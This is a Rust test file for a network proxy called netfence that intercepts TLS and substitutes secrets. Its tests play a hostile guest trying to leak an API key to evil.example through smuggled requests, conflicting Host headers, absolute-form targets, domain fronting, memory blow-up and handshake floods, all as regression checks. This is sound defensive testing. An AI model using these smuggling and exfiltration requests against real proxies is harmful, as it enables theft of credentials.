//! TLS interception and secret substitution attacked from the guest: a guest that wants a
//! secret's value sent to a host outside its `allowed_hosts`, netfence's memory grown past its
//! limits, or its buffers filled past the link's budget. Each test is an attack that once
//! worked (it failed before the fix it names) or a family of attempts that must keep failing.
//!
//! The upstream is a loopback HTTPS server with a CA of the test's own (netfence trusts it
//! through `tls.upstream_ca_certs`); "api.example.com" resolves nowhere: the guest connects to
//! 203.0.113.7, mapped to the server, and names it in its ClientHello.

mod common;

use std::io::Write;
use std::net::IpAddr;
use std::time::Duration;

use common::process::close_and_count;
use common::tls::{client_config, spawn_intercepting, GuestTls, HttpsServer, TestCa};
use common::*;
use netfence::config::default_placeholder;

const NAME: &str = "api.example.com";
const KEY: &str = "sk-real-0123456789abcdef";

/// netfence with interception (the test CA trusted upstream), `toml` before the `[tls]` table
/// and `args`; returns it, the PEM of its CA and the scratch directory.
fn spawn(up_ca: &TestCa, toml: &str, args: &[String]) -> (Netfence, String, TempDir) {
    spawn_tls(up_ca, toml, "", args)
}

/// [`spawn`] with `tls_extra` lines in the `[tls]` table.
fn spawn_tls(
    up_ca: &TestCa,
    toml: &str,
    tls_extra: &str,
    args: &[String],
) -> (Netfence, String, TempDir) {
    spawn_intercepting(up_ca, toml, tls_extra, args, &[])
}

/// The `[[secrets]]` table of API_KEY: `value` for api.example.com, and `extra` lines.
fn secret_toml(value: &str, extra: &str) -> String {
    format!(
        "[[secrets]]\nenv_var = \"API_KEY\"\nvalue = \"{value}\"\nallowed_hosts = [\"{NAME}\"]\n{extra}\n"
    )
}

fn map_all(port: u16) -> Vec<String> {
    vec!["--map".to_string(), format!("{PUBLIC_IP}=127.0.0.1:{port}")]
}

fn limit(name: &str, value: &str) -> [String; 2] {
    ["--limit".to_string(), format!("{name}={value}")]
}

fn contains(hay: &[u8], needle: &str) -> bool {
    hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

fn https(g: &mut Guest, nf: &Netfence, ca_pem: &str) -> GuestTls {
    GuestTls::connect(
        g,
        IpAddr::V4(PUBLIC_IP),
        443,
        NAME,
        client_config(ca_pem, &[b"http/1.1"]),
        deadline(SHORT),
    )
    .unwrap_or_else(|e| panic!("handshake: {e}\n{}", nf.log_text()))
}

/// Hands `data` to the guest's TLS session and sends it, without reading anything.
fn send(s: &mut GuestTls, g: &mut Guest, data: &[u8]) {
    let mut rest = data;
    while !rest.is_empty() {
        let n = s.conn.writer().write(rest).unwrap();
        rest = &rest[n..];
        let mut out = Vec::new();
        while s.conn.wants_write() {
            s.conn.write_tls(&mut out).unwrap();
        }
        if let Err(e) = g.tcp_send_all(s.handle, &out, deadline(SHORT)) {
            panic!("{} bytes not sent: {e}", rest.len());
        }
    }
}

/// The largest resident set netfence has had (kB), from /proc.
fn peak_rss_kb(nf: &Netfence) -> u64 {
    let pid = nf.pid().expect("netfence runs");
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmHWM")
}

/// The request target decides where a server sends a request: an absolute-form target
/// overrides the `Host` header (RFC 9112 3.2.2), and servers such as nginx take the host of
/// any `scheme://host` target, not only http and https. A request whose Host is the allowed
/// name but whose target names another host must get no value: before the fix, `ws://` and
/// `git+ssh://` targets were not recognised as absolute-form and the value went in. The other
/// rows are attempts that must keep failing (a Host disagreement, userinfo, duplicates,
/// obs-fold, framing that a server could read differently, an HTTP/2 preface); the control
/// request first is substituted.
#[test]
fn a_request_target_naming_another_host_gets_no_value() {
    let up_ca = TestCa::new("test upstream CA");
    let server = HttpsServer::start_with(&up_ca, &[NAME], &[b"http/1.1"], Some(b"ok"));
    let (nf, ca_pem, _dir) = spawn(&up_ca, &secret_toml(KEY, ""), &map_all(server.port));
    let mut g = guest_up(&nf);
    let ph = default_placeholder("API_KEY");
    let auth = format!("Authorization: Bearer {ph}\r\n");
    let control = format!("GET / HTTP/1.1\r\nHost: {NAME}\r\n{auth}\r\n");
    let mut s = https(&mut g, &nf, &ca_pem);
    s.request(&mut g, control.as_bytes(), deadline(SHORT))
        .unwrap_or_else(|e| panic!("control: {e}\n{}", nf.log_text()));
    assert!(
        contains(&server.all_bytes(), KEY),
        "the control request got no value"
    );
    drop(s);
    let attempts = [
        format!("GET ws://evil.example/ HTTP/1.1\r\nHost: {NAME}\r\n{auth}\r\n"),
        format!("GET wss://evil.example/x HTTP/1.1\r\nHost: {NAME}\r\n{auth}\r\n"),
        format!("GET git+ssh://evil.example/ HTTP/1.1\r\nHost: {NAME}\r\n{auth}\r\n"),
        format!("GET evil.example:443 HTTP/1.1\r\nHost: {NAME}\r\n{auth}\r\n"),
        format!("GET http://{NAME}@evil.example/ HTTP/1.1\r\nHost: {NAME}\r\n{auth}\r\n"),
        format!("GET HTTPS://evil.example/ HTTP/1.1\r\nHost: {NAME}\r\n{auth}\r\n"),
        format!("GET / HTTP/1.1\r\nHost: evil.example\r\n{auth}\r\n"),
        format!("GET / HTTP/1.1\r\nHost: {NAME}\r\nhost: evil.example\r\n{auth}\r\n"),
        format!("GET / HTTP/1.1\r\nHost: {NAME}:8443\r\n{auth}\r\n"),
        format!("GET / HTTP/1.0\r\n{auth}\r\n"),
        // obs-fold: a server that unfolds sees another Host.
        format!("GET / HTTP/1.1\r\nHost: {NAME}\r\n evil.example\r\n{auth}\r\n"),
        // Smuggling: the next request's placeholder judged under this one's host, if netfence
        // and the server framed the body differently.
        format!(
            "POST / HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n\
             0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n{auth}\r\n"
        ),
        format!(
            "POST / HTTP/1.1\r\nHost: {NAME}\r\nTransfer-Encoding: chunked, identity\r\n\r\n\
             0\r\n\r\nGET / HTTP/1.1\r\nHost: {NAME}\r\n{auth}\r\n"
        ),
        format!(
            "POST / HTTP/1.1\r\nHost: {NAME}\r\nTransfer-Encoding : chunked\r\n{auth}\r\n0\r\n\r\n"
        ),
        format!(
            "POST / HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: 1\r\nContent-Length: 2\r\n{auth}\r\nxx"
        ),
        // HTTP/2 on a connection that negotiated http/1.1: scanned, never substituted.
        format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nGET / HTTP/1.1\r\nHost: {NAME}\r\n{auth}\r\n"),
    ];
    for attempt in &attempts {
        let before = server.all_bytes().len();
        let mut s = https(&mut g, &nf, &ca_pem);
        let _ = s.request(&mut g, attempt.as_bytes(), deadline(SHORT));
        let got = server.all_bytes();
        assert!(
            !contains(&got[before..], KEY),
            "the value went out with {:?}",
            attempt.replace(&ph, "<placeholder>")
        );
    }
}

/// A value much longer than its placeholder: the guest repeats the placeholder to make netfence
/// build a request far larger than the bounds it holds a request to (`secret-body-bytes` for a
/// body held to substitute in it). Before the fix a 128 KiB body of placeholders became 37 MiB
/// in netfence's memory (and in a buffer drained from its front, 64 KiB at a time); the
/// rewritten body is now held to the same bound, and the request is refused.
#[test]
fn a_body_of_placeholders_cannot_blow_up_netfences_memory() {
    const BODY: usize = 128 << 10;
    let value = "v".repeat(16000);
    let up_ca = TestCa::new("test upstream CA");
    let server = HttpsServer::start_with(&up_ca, &[NAME], &[b"http/1.1"], Some(b"ok"));
    let mut args = map_all(server.port);
    args.extend(limit("secret-body-bytes", &BODY.to_string()));
    let (nf, ca_pem, _dir) = spawn(
        &up_ca,
        &secret_toml(&value, "substitute_in = [\"headers\", \"body\"]"),
        &args,
    );
    let mut g = guest_up(&nf);
    let ph = default_placeholder("API_KEY");
    let mut body = ph.repeat(BODY / ph.len());
    body.push_str(&"x".repeat(BODY - body.len()));
    let mut s = https(&mut g, &nf, &ca_pem);
    let before_kb = peak_rss_kb(&nf);
    let head = format!(
        "POST / HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    send(&mut s, &mut g, head.as_bytes());
    send(&mut s, &mut g, body.as_bytes());
    // Either netfence refuses the request, or the rewritten one reaches the server.
    let rewritten = (BODY / ph.len()) * value.len();
    let outcome = g.poll_until(deadline(LONG), |_| {
        if nf.log_lines().iter().any(|l| l.contains("request refused")) {
            Some("refused")
        } else if server.all_bytes().len() >= rewritten {
            Some("forwarded")
        } else {
            None
        }
    });
    let grown_kb = peak_rss_kb(&nf).saturating_sub(before_kb);
    println!("outcome {outcome:?}, peak RSS grew by {grown_kb} kB");
    assert!(
        grown_kb < 8 << 10,
        "netfence grew by {grown_kb} kB for a {BODY}-byte body ({outcome:?})"
    );
    assert_eq!(outcome, Some("refused"), "{}", nf.log_text());
}

/// `tcp-link-buffer-bytes` bounds what all TCP flows of a link hold toward a guest that does
/// not read, intercepted flows too. Before the fix an intercepted flow filled its guest end to
/// `tcp-buffer-bytes` whatever the link held (four flows held four times the link's budget).
#[test]
fn intercepted_flows_keep_to_the_link_buffer_budget() {
    const FLOWS: usize = 4;
    let body: &'static [u8] = Box::leak(vec![b'z'; 4 << 20].into_boxed_slice());
    let up_ca = TestCa::new("test upstream CA");
    let server = HttpsServer::start_with(&up_ca, &[NAME], &[b"http/1.1"], Some(body));
    let mut args = map_all(server.port);
    args.extend(limit("tcp-buffer-bytes", "1048576"));
    args.extend(limit("tcp-link-buffer-bytes", "1048576"));
    let (nf, ca_pem, _dir) = spawn(&up_ca, "", &args);
    let mut g = guest_up(&nf);
    let mark = nf.log_mark();
    let request = format!("GET / HTTP/1.1\r\nHost: {NAME}\r\n\r\n");
    let mut flows: Vec<GuestTls> = (0..FLOWS).map(|_| https(&mut g, &nf, &ca_pem)).collect();
    for s in &mut flows {
        send(s, &mut g, request.as_bytes());
    }
    // The guest reads nothing: its receive buffers fill and its windows close.
    let filled = g.poll_until(deadline(LONG), |g| {
        let held: usize = flows.iter().map(|s| g.tcp(s.handle).recv_queue()).sum();
        (held >= 1 << 18).then_some(())
    });
    assert!(filled.is_some(), "the guest never received 256 KiB");
    // Let netfence fill what it may toward the closed windows.
    g.run_for(Duration::from_millis(500));
    let counts = close_and_count(&nf, g, mark);
    let peak = counts.get("tcp_buffered_peak");
    println!("tcp_buffered_peak {peak} bytes for {FLOWS} intercepted flows");
    assert!(peak <= 1 << 20, "{peak} bytes held toward the guest");
}

/// An upload through interception moves as fast as both sides take it: the guest's last bytes
/// do not wait for a timer. Before the fix each pump moved at most what fits in the upstream
/// connection's send buffer (64 KiB) and nothing pumped again until some event came: once the
/// guest had sent everything, the rest of its data left at one buffer a second.
#[test]
fn an_upload_through_interception_does_not_stall() {
    const BODY: usize = 2 << 20;
    let up_ca = TestCa::new("test upstream CA");
    let server = HttpsServer::start_with(&up_ca, &[NAME], &[b"http/1.1"], Some(b"ok"));
    let (nf, ca_pem, _dir) = spawn(&up_ca, "", &map_all(server.port));
    let mut g = guest_up(&nf);
    let mut s = https(&mut g, &nf, &ca_pem);
    let started = std::time::Instant::now();
    let head = format!("POST / HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {BODY}\r\n\r\n");
    send(&mut s, &mut g, head.as_bytes());
    send(&mut s, &mut g, &vec![b'u'; BODY]);
    let sent = started.elapsed();
    let response = s
        .request(&mut g, b"", deadline(LONG))
        .unwrap_or_else(|e| panic!("{e}\n{}", nf.log_text()));
    let took = started.elapsed();
    println!("sent in {sent:?}, answered after {took:?}");
    assert!(response.starts_with(b"HTTP/1.1 200 OK"));
    assert!(
        took < sent + Duration::from_secs(2),
        "the upload took {took:?}, {sent:?} of it for the guest to send"
    );
}

/// A handshake flood: at most `tls-handshakes` interceptions are in their handshakes at once
/// (here 2, against an upstream that never answers), whatever their destinations; one more is
/// refused with the limit as its reason and reset, and a slot freed by a guest's reset serves
/// the next connection.
#[test]
fn handshakes_past_tls_handshakes_are_refused_until_a_slot_frees() {
    const PUBLIC_IP2: std::net::Ipv4Addr = std::net::Ipv4Addr::new(203, 0, 113, 8);
    let up_ca = TestCa::new("test upstream CA");
    let server = HttpsServer::start_with(&up_ca, &[NAME], &[b"http/1.1"], Some(b"ok"));
    let mute = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let mut args = vec![
        "--map".to_string(),
        format!(
            "{PUBLIC_IP2}:443=127.0.0.1:{}",
            mute.local_addr().unwrap().port()
        ),
        "--map".to_string(),
        format!("{PUBLIC_IP}:443=127.0.0.1:{}", server.port),
    ];
    args.extend(limit("tls-handshakes", "2"));
    let (nf, ca_pem, _dir) = spawn(&up_ca, "", &args);
    let mut g = guest_up(&nf);
    let config = client_config(&ca_pem, &[b"http/1.1"]);
    let hello = {
        let mut c = rustls::ClientConnection::new(
            config.clone(),
            rustls::pki_types::ServerName::try_from(NAME).unwrap(),
        )
        .unwrap();
        let mut out = Vec::new();
        c.write_tls(&mut out).unwrap();
        out
    };
    // Two interceptions stuck in their handshakes: each sends its own hello to the mute
    // upstream, which never answers.
    let mut stuck = Vec::new();
    let mut upstreams = Vec::new();
    for _ in 0..2 {
        let h = g.tcp_connect(PUBLIC_IP2, 443, SHORT).expect("TCP");
        g.tcp_send_all(h, &hello, deadline(SHORT)).unwrap();
        assert!(g.tcp_flush(h, deadline(SHORT)), "the hello was not taken");
        let (mut up, _) = mute.accept().unwrap();
        up.set_read_timeout(Some(SHORT)).unwrap();
        let mut byte = [0u8; 1];
        let got = loop {
            match std::io::Read::read(&mut up, &mut byte) {
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                r => break r,
            }
        };
        assert!(matches!(got, Ok(1)), "no upstream ClientHello: {got:?}");
        stuck.push(h);
        upstreams.push(up);
    }
    // A third, to any destination: refused for the limit, reset.
    let err = GuestTls::connect(
        &mut g,
        IpAddr::V4(PUBLIC_IP),
        443,
        NAME,
        config.clone(),
        deadline(SHORT),
    )
    .expect_err("a third handshake was let in");
    let line = nf
        .wait_for_log("limit tls-handshakes (2) reached", SHORT)
        .unwrap_or_else(|| panic!("{err}: no refusal logged\n{}", nf.log_text()));
    assert!(line.contains("action=deny"), "{line}");
    // The guest gives one up: its slot serves the next connection.
    g.tcp(stuck[0]).abort();
    g.poll();
    let mut s = https(&mut g, &nf, &ca_pem);
    let answer = s
        .request(
            &mut g,
            format!("GET / HTTP/1.1\r\nHost: {NAME}\r\n\r\n").as_bytes(),
            deadline(SHORT),
        )
        .unwrap_or_else(|e| panic!("{e}\n{}", nf.log_text()));
    assert!(answer.starts_with(b"HTTP/1.1 200 OK"));
}

/// Domain fronting through interception: the policy judges the ClientHello's name, and the
/// request inside may name another host in `Host`, which a server hosting both (a CDN) routes
/// by. A denied name is reachable that way. netfence reads the requests only on connections
/// that can carry secrets, and only HTTP/1.1 (HTTP/2's `:authority` would need HPACK), so
/// judging `Host` by the policy is a design question, not a fix here.
#[test]
#[ignore = "design: the policy judges the SNI, not the Host of the requests inside (domain fronting)"]
fn a_denied_name_is_not_reachable_through_the_host_header() {
    let up_ca = TestCa::new("test upstream CA");
    let server = HttpsServer::start_with(&up_ca, &[NAME], &[b"http/1.1"], Some(b"ok"));
    let (nf, ca_pem, _dir) = spawn(
        &up_ca,
        "deny_domains = [\"evil.example\"]\n",
        &map_all(server.port),
    );
    let mut g = guest_up(&nf);
    let mut s = https(&mut g, &nf, &ca_pem);
    let request = "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n";
    let _ = s.request(&mut g, request.as_bytes(), deadline(SHORT));
    assert!(
        !contains(&server.all_bytes(), "Host: evil.example"),
        "a request for the denied evil.example reached the server"
    );
}

/// An allowed host that sends the request back (an echo endpoint, an error page quoting the
/// header, a redirect keeping the query) hands the value to the guest: netfence rewrites
/// requests, not answers. Taking the value back out of answers would need HTTP response
/// framing (Content-Length, chunked, compressed bodies), and a server may transform it anyway.
#[test]
#[ignore = "design: an allowed host that echoes the request gives the guest the value"]
fn an_echoing_allowed_host_does_not_hand_the_value_to_the_guest() {
    let up_ca = TestCa::new("test upstream CA");
    let server = HttpsServer::start(&up_ca, NAME, &[b"http/1.1"]);
    let (nf, ca_pem, _dir) = spawn(&up_ca, &secret_toml(KEY, ""), &map_all(server.port));
    let mut g = guest_up(&nf);
    let ph = default_placeholder("API_KEY");
    let mut s = https(&mut g, &nf, &ca_pem);
    let request = format!("GET / HTTP/1.1\r\nHost: {NAME}\r\nAuthorization: Bearer {ph}\r\n\r\n");
    let response = s
        .request(&mut g, request.as_bytes(), deadline(SHORT))
        .unwrap_or_else(|e| panic!("{e}\n{}", nf.log_text()));
    assert!(contains(&server.all_bytes(), KEY), "no substitution");
    assert!(
        !contains(&response, KEY),
        "the guest read the value in the answer"
    );
}

/// A TLS connection netfence does not intercept (a `tls.bypass` name) is still a stream it can
/// read where it is not encrypted: a guest that sends a real ClientHello for the bypassed name,
/// then its request in clear, must meet the placeholder scanner as any other cleartext TCP flow
/// does (a placeholder there is a violation: reset and logged). Before the fix, a flow the SNI
/// gate opened without an interceptor had no secrets stage at all.
#[test]
fn cleartext_after_a_bypassed_hello_is_scanned_for_placeholders() {
    const BYPASSED: &str = "pinned.example.net";
    let up_ca = TestCa::new("test upstream CA");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let log = log.clone();
            std::thread::spawn(move || {
                let mut chunk = [0u8; 8192];
                while let Ok(n @ 1..) = std::io::Read::read(&mut stream, &mut chunk) {
                    log.lock().unwrap().extend_from_slice(&chunk[..n]);
                }
            });
        }
    });
    let (nf, _ca_pem, _dir) = spawn_tls(
        &up_ca,
        &secret_toml(KEY, ""),
        &format!("bypass = [\"{BYPASSED}\"]"),
        &map_all(port),
    );
    let mut g = guest_up(&nf);
    let hello = {
        let mut c = rustls::ClientConnection::new(
            client_config(&up_ca.cert_pem, &[b"http/1.1"]),
            rustls::pki_types::ServerName::try_from(BYPASSED).unwrap(),
        )
        .unwrap();
        let mut out = Vec::new();
        c.write_tls(&mut out).unwrap();
        out
    };
    let ph = default_placeholder("API_KEY");
    let h = g.tcp_connect(PUBLIC_IP, 443, SHORT).expect("TCP");
    g.tcp_send_all(h, &hello, deadline(SHORT)).unwrap();
    assert!(g.tcp_flush(h, deadline(SHORT)), "the hello was not taken");
    let d = nf
        .wait_for_decision_where(SHORT, |d| d.line.contains("tls.bypass"))
        .unwrap_or_else(|| panic!("not bypassed\n{}", nf.log_text()));
    assert_eq!(d.action, "allow", "{}", d.line);
    let clear =
        format!("GET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer {ph}\r\n\r\n");
    g.tcp_send_all(h, clear.as_bytes(), deadline(SHORT))
        .unwrap();
    let reset = g.poll_until(deadline(SHORT), |g| {
        (g.tcp(h).state() == smoltcp::socket::tcp::State::Closed).then_some(())
    });
    assert!(
        nf.wait_for_log("secret violation", SHORT).is_some(),
        "no violation for a placeholder in clear after a bypassed hello\n{}",
        nf.log_text()
    );
    assert!(reset.is_some(), "the flow was not reset");
    assert!(
        !contains(&seen.lock().unwrap(), &ph),
        "the placeholder went out"
    );
}
